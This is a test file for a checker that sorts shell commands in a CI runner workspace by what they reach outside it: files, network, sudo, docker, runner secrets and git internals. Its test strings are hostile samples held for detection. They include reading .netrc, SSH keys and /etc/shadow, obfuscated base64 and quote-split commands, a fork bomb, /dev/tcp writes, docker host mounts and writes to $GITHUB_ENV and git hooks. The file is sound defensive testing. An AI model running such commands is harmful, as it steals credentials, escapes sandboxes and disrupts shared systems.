import { describe, expect, it } from 'vitest';
import {
  type AccessContext,
  type OutsideAccess,
  outsideAccesses,
} from '../../../../src/constraints/access/outside-access.ts';
import { readShell } from '../../../../src/constraints/shell/read-shell.ts';

const FACTS: AccessContext = {
  root: '/home/runner/work/app/app',
  cwd: '',
  network: false,
  sudoHasNoEffect: false,
  foreignFolders: ['/home/runner', '/home/runner/work/_temp'],
  scratchFolders: [],
};

function reaches(command: string, facts: AccessContext): readonly OutsideAccess[] {
  const cwd = facts.cwd === '' ? facts.root : `${facts.root}/${facts.cwd}`;
  return outsideAccesses(readShell(command, { root: facts.root, cwd }), facts);
}

/** Codes of what a command reaches for; with `?` where it is only worth a record. */
function codes(command: string, facts: Partial<AccessContext> = {}): readonly string[] {
  return reaches(command, { ...FACTS, ...facts }).map(({ code, harmful }) => (harmful ? code : `${code}?`));
}

describe('names that every object of JavaScript knows', () => {
  const NAMES = ['constructor', '__proto__', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__'];
  it.each(NAMES)('%s is a command like any other', (name) => {
    for (const command of [
      `git ${name} -x y`,
      `git ${name}`,
      `${name} -x y`,
      `sudo ${name} a`,
      `echo a | ${name} -c b`,
    ])
      expect(() => codes(command), command).not.toThrow();
    expect(codes(`git ${name} -x y`)).toEqual(codes('git something -x y'));
  });
});

describe('what honest work reaches for', () => {
  it.each([
    'npm test',
    'node --test test/ 2>&1 | tail -20',
    'git status --short && git diff --stat HEAD',
    'git log --oneline -5; git show HEAD:src/app.js',
    'grep -rn "/api/users" src | head',
    "sed -i 's/^/\\/\\/ x /' src/app.js",
    "sed -i 's/a - b/a + b/' /home/runner/work/app/app/src/app.js",
    'cd src && cat ../README.md',
    'ls -la; cat package.json > /dev/null 2>&1',
    "cat > test/a.test.js <<'EOF'\nimport { add } from '../src/app.js';\nfetch('http://x.test/');\nEOF",
    'printf "#!/usr/bin/env node\\n" > bin/x && chmod +x bin/x',
    'echo "see /etc/hosts and ../x" > notes.md',
    'for f in src/*.js; do node --check "$f"; done',
    '/usr/bin/env node build.js',
    'kill %1; kill -0 4242',
    'node -e "import(\'../src/app.js\').then(console.log)"',
    'mkdir -p "$TMPDIR/x" && cp src/app.js "$TMPDIR/x"',
    'ln -s ../README.md docs/link',
    'make -j2 host=x at=3',
    'git grep -n curl -- docs',
    'git stash list; git stash show -p; git notes list; git bisect log; git sparse-checkout list',
    'git branch; git branch --merged main; git branch --sort=-committerdate; git branch -vv; git branch -avv',
    'git branch --sort -committerdate; git branch --list "a*"; git branch -r --contains HEAD; git tag',
    'git tag -n3; git tag -n; git tag --sort=-v:refname; git tag --contains HEAD; git tag --sort -v:refname -l "v*"',
    'git add --dry-run .; git add -An; git rm -rn x; git mv -n a b; git commit --dry-run; git replace -l',
    'grep -rn "curl http" docs; grep -rn sudo .',
    'echo "run curl, sudo or cat /etc/hosts" > notes.md',
    'cat > a.sh <<EOF\nsudo rm -rf /etc\ncurl x\nEOF',
    'ls # curl x; cat /etc/passwd',
    'cat /usr/include/stdio.h; ls /; gcc -I/usr/include -o a a.c',
    'for d in packages/*; do (cd "$d" && ../../node_modules/.bin/tsc); done',
    'cd "$(git rev-parse --show-toplevel)/src" && cat ../README.md',
    'git diff HEAD~1..HEAD -- src; git log main..topic',
    'f=$(mktemp); echo x > "$f"; cp "$f" "$TMPDIR/y"',
    'cat "$file" > "$out" && mv "$dir/../a" "$dir/b"',
    "awk -F: '/^\\/usr/ {print}' x; sed -n '/tmp/,/etc/p' x; jq '.a[\"/etc/x\"]' y.json",
    'PATH=$PWD/node_modules/.bin:/usr/local/bin:$PATH; tsc',
    'docker --version; curl --version; npx --no-install tsc',
    'test -f /etc/hosts && [ -d /home/runner ]; basename /home/x',
    '(cd src); cat README.md; cd src || exit 1; cat ../README.md',
    'npm ci --offline && pnpm install --offline; pip install --no-index -e .; cargo fetch --offline',
    'go install ./cmd/x; go install -v ./...',
    'python3 -c "from urllib.parse import quote; print(quote(1))"',
    'git config --get user.name; printenv PATH',
    'env',
    'printenv',
    '/usr/bin/env -0',
    'env | sort | head -50; export -p; set; declare -p; declare -x; compgen -v',
    'env 2>/dev/null | grep -i node; env 2>&1 | less',
    'printenv MODE; printenv LANG LC_ALL; env | grep ^PATH= | cut -d= -f2',
    'env && npm test; echo $HOME',
    "env; grep -rn token src; env | tr '\\0' '\\n'; node test/auth.test.js",
  ])('%s', (command) => {
    expect(codes(command)).toEqual([]);
  });

  it.each(['npx mocha', 'npx --yes mocha test', 'npx -q mocha --exit', 'npx -- mocha'])(
    '%s, of a program that is installed',
    (command) => {
      expect(codes(command, { isInstalled: (name) => name === 'mocha' })).toEqual([]);
      expect(codes(command, { isInstalled: () => false })).toEqual(['NET-01']);
    },
  );

  it.each([
    'npx mocha@10',
    'npx -p evil mocha',
    'npx --package=evil mocha',
    'npx -c "mocha"',
    'npx https://x.test/a',
  ])('%s asks for more than what is installed', (command) => {
    expect(codes(command, { isInstalled: (name) => name === 'mocha' })).toEqual(['NET-01']);
  });

  it.each(['curl -s localhost:3000/health', 'curl http://127.0.0.1:8080', 'wget -qO- http://[::1]:80/'])(
    '%s, where the loopback is its own',
    (command) => {
      expect(codes(command, { ownLoopback: true })).toEqual([]);
      expect(codes(command)).toEqual(['NET-01']);
    },
  );

  it.each([
    'curl localhost:1 https://x.test',
    'curl -x http://localhost:1 https://x.test',
    'curl localhost.x.test',
    'curl http://127.0.0.1.x.test/',
    'curl localhost > /dev/tcp/x.test/80',
    'npm install --prefer-offline',
    'go install example.com/x@latest',
    'python3 -c "import urllib.request"',
    'python3 -c "import urllib.parse, urllib.request"',
  ])('%s reaches out all the same', (command) => {
    expect(codes(command, { ownLoopback: true })).toContain('NET-01');
  });
});

describe('what reaches out of the workspace', () => {
  it.each([
    ['cat /home/runner/.netrc', ['FS-01']],
    ['echo x >> /home/runner/work/outside/y', ['FS-01']],
    ['echo x > /etc/cron.d/y', ['FS-01']],
    ['cp evil /usr/local/bin/git', ['FS-01']],
    ['touch /usr/bin/x', ['FS-01']],
    ['ls /', []],
    ['cat ../outside/secret.txt', ['FS-01']],
    ['cd ..; rm -rf app', ['FS-01']],
    ['cd src && cat ../../outside/x', ['FS-01']],
    ['ln -s /home/runner/work/outside ext && cat ext/secret.txt', ['FS-01']],
    ['cat "/home/runner/work/app/app/../outside/x"', ['FS-01']],
    ['cat //home//runner/.ssh/id_rsa', ['FS-01']],
    ["python3 -c \"open('/home/runner/x','w')\"", ['FS-01']],
    ['cat /proc/1/environ', ['ENV-01']],
    ['ls /proc/self/root/home', ['ENV-01']],
    ['cat /proc/4242/cmdline', ['ENV-01?']],
  ])('%s', (command, expected) => {
    expect(codes(command)).toEqual(expected);
  });

  it('leaves the commands their own folders where they have some', () => {
    expect(codes('echo x > /tmp/y', { scratchFolders: ['/tmp'] })).toEqual([]);
    expect(codes('echo x > /tmp/y')).toEqual(['FS-01']);
  });

  it('takes a link that leads out for no reach where nothing goes through it', () => {
    expect(codes('mkdir -p d; ln -s /home/runner/work/outside d/ext; ln -s . loop')).toEqual([]);
    expect(codes('ln -s app.js /home/runner/work/outside/x')).toEqual(['FS-01']);
  });
});

describe('what reaches out in other words', () => {
  it.each([
    'cat /et""c/shadow',
    'cat /e?c/shadow',
    "cat $'\\x2fetc/shadow'",
    'x=/home/runner; cat $x/.netrc',
    'cat ~root/.ssh/id_rsa',
    '(cd /; cat home/runner/.netrc)',
    'cd a || cat ../secret',
    'cp x $(echo /home/runner/y)',
    'dd if=/dev/zero of=/etc/x',
    'mv /usr/bin/git .',
    'cd /usr && touch x',
    'grep -r token /',
    'rm -rf "${PWD}/../other"',
    'cat < /home/runner/.netrc',
    'cat <(cat /home/runner/.netrc)',
    'cat file:///etc/passwd',
    'env -C /home/runner cat .netrc',
    'git -C /home/runner status',
    'make -C ../other',
    'cat "/$x/y"',
    'cd "$x" && cat ../y',
    'echo /home/*',
    "node -e \"require('fs').readFileSync('/home/runner/.netrc')\"",
    "eval 'cat /home/runner/.netrc'",
    'xargs cat <<< /home/runner/.netrc',
    'cat /home/runner/.netrc\nfi',
  ])('%s', (command) => {
    expect(codes(command)).toContain('FS-01');
  });

  it.each([
    ['"cu""rl" x.test', 'NET-01'],
    ['c=curl; $c x.test', 'NET-01'],
    ['$(printf "\\x63url") x.test', 'NET-01'],
    ['f() { "$@"; }; f sudo id', 'EXEC-06'],
    ['bash -c "$(echo c3VkbyBpZA== | base64 -d)"', 'EXEC-06'],
    ['bash -c "$(echo c3VkbyBpZA== | base64 -d)"', 'EXEC-01'],
    ['find . -exec docker run {} +', 'EXEC-06'],
    ['x() { x & x & }; x', 'EXEC-01'],
    ['a=PID; echo ${GITHUB_ENV:-x}', 'RUN-01'],
  ])('%s', (command, code) => {
    expect(codes(command)).toContain(code);
  });
});

describe('what uses the network', () => {
  it.each([
    'curl -s http://127.0.0.1:1/',
    'env -i /usr/bin/wget -qO- http://x.test',
    "bash -c 'curl x.test'",
    'x=$(dig +short data.example.test)',
    'timeout 5 nc -z localhost 80',
    'getent hosts data.example.test',
    'echo x >/dev/tcp/127.0.0.1/80',
    'git push origin main',
    'git -c a=b -C . fetch',
    'node -e "fetch(\'http://x.test\')"',
    'node -e "require(\'node:net\').connect(80)"',
    'python3 - <<P\nimport os, socket\nP',
    'perl -MIO::Socket -e 1; perl -e "use IO::Socket::INET"',
    'ruby -rsocket -e "TCPSocket.new"',
    'pip install x',
  ])('%s', (command) => {
    expect(codes(command)).toContain('NET-01');
    expect(codes(command, { network: true })).not.toContain('NET-01');
  });
});

describe('what seeks power, the runner or secrets', () => {
  it.each([
    ['sudo -n id', 'EXEC-06'],
    ['docker run -v /:/h x', 'EXEC-06'],
    ['curl --unix-socket /run/docker.sock http://d/', 'EXEC-06'],
    ['(crontab -l; echo x) | crontab -', 'EXEC-01'],
    ['kill -9 $PPID', 'EXEC-01'],
    ['kill -KILL -1', 'EXEC-01'],
    ['pkill -f node', 'EXEC-01'],
    ['node -e "process.kill(process.ppid)"', 'EXEC-01'],
    [':(){ :|:& };:', 'EXEC-01'],
    ['echo aWQ= | base64 -d | sh', 'EXEC-01'],
    ['echo X=1 >> "$GITHUB_ENV"', 'RUN-01'],
    ['node -e "console.log(process.env.GITHUB_OUTPUT)"', 'RUN-01'],
    ['ls $RUNNER_TEMP/_runner_file_commands', 'RUN-01'],
    ['env | base64 -w0', 'ENV-01?'],
    ['env > seen.txt', 'ENV-01?'],
    ['export -p >> seen.txt', 'ENV-01?'],
    ['set | tee seen.txt', 'ENV-01?'],
    ["env | grep -a '^INPUT_'", 'ENV-01?'],
    ["env | grep -iE 'proxy|npm_config|pip_|registry'", 'ENV-01?'],
    ['declare -p | awk "/_KEY=/"', 'ENV-01?'],
    ['printenv MY_API_KEY', 'ENV-01?'],
    ['printenv HOME NPM_TOKEN', 'ENV-01?'],
    ['echo $ACTIONS_RUNTIME_TOKEN', 'ENV-01?'],
    ['cat .git/config', 'ENV-01?'],
    ['cat ~/.ssh/id_ed25519', 'ENV-01?'],
    ['git config core.hooksPath x', 'GIT-01?'],
    ['git commit -qam x', 'GIT-01?'],
    ...[
      ...['git stash', 'git stash drop', 'git notes add list', 'git bisect start', 'git commit -n -m x'],
      ...['git branch new', 'git branch --sort=x new', 'git branch --sort x new', 'git branch -vv new'],
      ...[
        'git branch --format=x new',
        'git branch --merged -d x',
        'git branch -v -D x',
        'git branch -rd o/x',
      ],
      ...[
        'git branch --color new',
        'git branch -f --list x y',
        'git branch -- -a',
        'git branch --no-merged -m x',
      ],
      ...[
        'git tag new',
        'git tag --sort=x new',
        'git tag --format x new',
        'git tag -n1 -d x',
        'git tag -am n v1',
      ],
      ...['git add -N x', 'git add -- -n', 'git rm -- --dry-run', 'git replace a b'],
    ].map((command): [string, string] => [command, 'GIT-01?']),
    ['echo x > .git/hooks/pre-commit', 'GIT-01?'],
    ['mv .git old', 'GIT-01?'],
    ['cd .git && rm HEAD', 'GIT-01?'],
    ['cd .git/hooks; echo x > pre-commit', 'GIT-01?'],
    ['find .git -delete', 'GIT-01?'],
    ['find .git -name "*.lock" -exec rm {} +', 'GIT-01?'],
    ['cat x | dd of=.git/x', 'GIT-01?'],
    ['chown 1 .git/config', 'GIT-01?'],
    ['cp -t .git/hooks x', 'GIT-01?'],
    ['git pack-refs --all', 'GIT-01?'],
    ['git submodule add x y', 'GIT-01?'],
    [`python3 -c "open('.git/y', 'w')"`, 'GIT-01?'],
    [`node -e "require('fs').rmSync('.git', { recursive: true })"`, 'GIT-01?'],
    [`perl -e 'open(F, ">.git/x")'`, 'GIT-01?'],
  ])('%s', (command, expected) => {
    expect(codes(command)).toContain(expected);
  });

  it.each([
    ['cp .git/config x'],
    ['find .git -name "*.lock"'],
    ['git stash list'],
    ['git branch --merged main'],
    ['git tag --points-at HEAD'],
    ['git notes show'],
    ['cd .git && cat HEAD'],
    ['rm .gitignore'],
    ['tar cf $TMPDIR/x.tar .git'],
    [`python3 -c "print(open('.git/HEAD').read())"`],
  ])('%s leaves git its own folder', (command) => {
    expect(codes(command)).not.toContain('GIT-01?');
  });

  it('does not hold against a command what a vain sudo is asked to do', () => {
    const command = "sudo -n sh -c 'touch /home/runner/x'; sudo cat /etc/shadow | head -1; echo done";
    expect(codes(command)).toEqual(['FS-01', 'EXEC-06']);
    expect(codes(command, { sudoHasNoEffect: true })).toEqual(['EXEC-06?']);
  });
});

it('is quick about texts that were made to be slow', () => {
  const texts = [
    ' '.repeat(100_000),
    '../'.repeat(30_000),
    '/tmp'.repeat(25_000),
    'a-'.repeat(50_000),
    ';sudo '.repeat(15_000),
  ];
  for (const text of texts) expect(reaches(text, FACTS)).toBeInstanceOf(Array);
});
